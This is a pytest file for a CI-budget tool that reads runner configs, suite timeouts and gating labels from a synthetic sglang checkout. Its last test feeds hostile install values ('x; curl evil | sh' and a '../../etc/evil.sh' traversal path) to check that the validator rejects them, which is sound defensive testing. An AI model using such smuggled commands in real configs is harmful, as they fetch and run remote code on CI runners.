"""The sglang profile: settings read from a checkout's own CI files (a synthetic tree)."""

import subprocess
import sys

from helpers.registry import reg

from ci_budget.workspace.project import detect, load_config
from tests.sglang_tree import RUNNER_CONFIGS, make_tree


def test_profile_reads_runners_suites_timeouts_and_rules(tmp_path):
    profile = detect(make_tree(tmp_path))
    assert profile.warnings == []
    s = profile.settings
    assert s["runner-configs"]["1-gpu-large"] == {
        "runs-on": ["1-gpu-h100"],
        "gpus": 1,
        "arch": "sm90",
        "install": "setup.sh",  # what the stage job runs before its tests
    }
    # a $label the workflow substitutes: the everyday value it writes, for every config using it
    assert s["runner-configs"]["4-gpu-b200"]["runs-on"] == ["b200-pool"]
    assert s["runner-configs"]["deepep-4-gpu-b200"]["runs-on"] == ["b200-pool"]
    assert s["runner-configs"]["4-gpu-gb300"]["arch"] == "sm100"
    assert s["suite-timeouts"] == {
        "base-a-test-cpu": 15.0, "base-b-test-1-gpu-large": 10.0,
        "base-b-test-2-gpu-large": 20.0, "base-c-test-4-gpu-gb300": 60.0,
    }  # fmt: skip
    assert s["suite-runners"]["base-a-test-cpu"] == "ubuntu-latest"  # the stage workflow's runs-on
    assert s["suite-runners"]["pinned-job"] == "ubuntu-latest"  # an inline job
    assert s["suite-shards"] == {"pinned-job": 1}
    assert s["max-parallel"] == "third-gpu"
    assert s["github"]["backends"] == ["cuda", "cpu"]
    assert s["github"]["gating-labels"] == {"run-ci": profile.dispatched}
    assert profile.dispatched[-1] == "pinned-job" and len(profile.dispatched) == 5
    assert s["test-globs"] == ["test/registered/**/*.py", "python/pkg/kernels/tests/**/test_*.py"]
    assert s["registration-keywords"] == ["stage", "runner_config"]
    assert s["register-functions"]["register_amd_ci"] == "amd"


def test_older_dispatch_scripts_throttle_cpu_too(tmp_path):
    assert detect(make_tree(tmp_path, cpu_unthrottled=False)).settings["max-parallel"] == "third"


def test_missing_or_broken_ci_file_is_one_warning_naming_it(tmp_path):
    root = make_tree(tmp_path)
    (root / "scripts/ci/runner_configs.yml").unlink()
    (root / ".github/workflows/pr-test.yml").write_text("jobs: [unclosed\n")
    profile = detect(root)
    assert profile.warnings == [
        "scripts/ci/runner_configs.yml: missing; runner labels fall back to ci-budget's defaults",
        ".github/workflows/pr-test.yml: does not parse at line 2; dispatched suites and "
        "timeouts fall back to ci-budget's defaults",
    ]
    config = load_config(root)
    assert config.runner("1-gpu-large").runs_on == ["self-hosted", "1-gpu-large"]


def test_no_ci_files_no_profile(tmp_path):
    (tmp_path / "test" / "registered").mkdir(parents=True)
    assert detect(tmp_path) is None


def test_every_value_can_be_overridden(tmp_path):
    root = make_tree(tmp_path)
    (root / "ci-budget.toml").write_text(
        '[runner-configs.1-gpu-large]\nruns-on = ["my-h100"]\n'
        '[suite-timeouts]\n"base-b-*" = 45\n"base-b-test-2-gpu-large" = 5\n'
        '[github]\ngating-labels = { run-ci = ["base-b"] }\n'
    )
    config = load_config(root)
    assert config.runner("1-gpu-large").runs_on == ["my-h100"]
    assert config.runner("1-gpu-large").arch == "sm90"  # the rest of the entry kept
    assert config.suite_timeout_s("base-b-test-2-gpu-large") == 300  # exact name
    assert config.suite_timeout_s("base-b-test-1-gpu-large") == 10 * 60  # profile's exact name
    assert config.suite_timeout_s("base-b-test-9-gpu-x") == 45 * 60  # the pattern
    assert config.github.gating_labels == {"run-ci": ["base-b"]}


def test_scan_on_the_tree_warns_once_and_knows_the_runners(tmp_path):
    root = make_tree(tmp_path, {
        "test/registered/a.py": 'register_cuda_ci(30, stage="base-b", runner_config="4-gpu-gb300")',
        "test/registered/amd.py": 'register_amd_ci(30, stage="base-b", runner_config="2-gpu-amd")',
        "python/pkg/kernels/tests/x/test_k.py": 'register_cuda_ci(5, "base-b-test-1-gpu-large")',
    })  # fmt: skip
    (root / "scripts/ci/runner_configs.yml").write_text("runner_configs: [\n")
    done = subprocess.run(
        [sys.executable, "-m", "ci_budget.cli", "scan", "--root", str(root)],
        capture_output=True, text=True,
    )  # fmt: skip
    assert done.stderr.count("runner_configs.yml: does not parse") == 1
    assert "python/pkg/kernels/tests/x/test_k.py" in done.stdout
    (root / "scripts/ci/runner_configs.yml").write_text(
        "runner_configs:\n  4-gpu-gb300: { runs_on: 4-gpu-gb300 }\n"
    )
    scan = [sys.executable, "-m", "ci_budget.cli", "scan", "--root", str(root)]
    done = subprocess.run(scan, capture_output=True, text=True)
    # The suites whose runner config no CI file labels: a guess, said once each.
    assert done.stderr.splitlines() == [
        f"warning: .github/workflows/pr-test.yml: suite base-b-test-{n}-gpu-large: no runner "
        "label for it in the checkout's CI files; ci-budget's built-in runner table guesses one"
        for n in (1, 2)
    ]
    (root / "scripts/ci/runner_configs.yml").write_text(RUNNER_CONFIGS)
    done = subprocess.run(scan, capture_output=True, text=True)
    assert "warning" not in done.stderr, done.stderr


def test_matrix_rows_name_the_install_script_of_their_runner_config(tmp_path):
    from ci_budget.config import RunnerConfig
    from ci_budget.trigger.rows import suite_rows

    root = make_tree(tmp_path)
    (root / "scripts/ci/runner_configs.yml").write_text(
        "runner_configs:\n"
        "  1-gpu-large: { install: scripts/ci/cuda/ci_install_dependency.sh, runs_on: h100 }\n"
        "  2-gpu-large: { install: ../../etc/evil.sh, runs_on: h100x2 }\n"
        "  4-gpu-gb300: { install: 'x; curl evil | sh', runs_on: gb300 }\n"
    )
    config = load_config(root)
    assert config.runner("1-gpu-large").install == "scripts/ci/cuda/ci_install_dependency.sh"
    # Not a repository path: not a script to run (the runs-on label is still read).
    assert config.runner("2-gpu-large").install is None
    assert config.runner("4-gpu-gb300").install is None
    rows, _ = suite_rows([reg("test/registered/a.py", 60)], config)
    assert [r.install for r in rows] == ["scripts/ci/cuda/ci_install_dependency.sh"]
    import pytest
    from pydantic import ValidationError

    with pytest.raises(ValidationError):
        RunnerConfig(install="/abs/path.sh")
